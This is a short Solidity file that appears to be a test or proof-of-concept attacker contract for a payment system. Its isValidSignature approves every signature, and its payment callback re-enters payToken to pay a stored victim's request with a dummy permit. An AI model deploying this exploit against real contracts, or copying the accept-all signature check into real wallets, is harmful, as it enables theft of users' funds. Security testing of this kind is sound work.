// SPDX-License-Identifier: MIT
pragma solidity ^0.8.27;

import {IPaymentEndpoint} from "./IPaymentEndpoint.sol";
import {PaymentRequest} from "./PaymentRequest.sol";

interface IPayToken {
    function pay(PaymentRequest calldata request) external payable;

    function payToken(PaymentRequest calldata request, bytes calldata permit2Signature) external;
}

/// A wallet that signs everything (EIP-1271), and a payee that pays somebody else's request by a permit for "token 0"
/// whenever it is paid.
contract Attacker is IPaymentEndpoint {
    IPayToken private immutable _payments;
    PaymentRequest private _victim;

    constructor(IPayToken payments) {
        _payments = payments;
    }

    receive() external payable {}

    function aim(PaymentRequest calldata victim) external {
        _victim = victim;
    }

    /// Pay a request of its own, and what was aimed at in the middle of it.
    function attack(PaymentRequest calldata own) external payable {
        _payments.pay{value: own.amount}(own);
    }

    function payVictim() external {
        _payVictim();
    }

    function pay(PaymentRequest calldata) external payable {
        _payVictim();
    }

    function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) {
        return this.isValidSignature.selector;
    }

    function _payVictim() private {
        _payments.payToken(_victim, hex"01");
    }
}
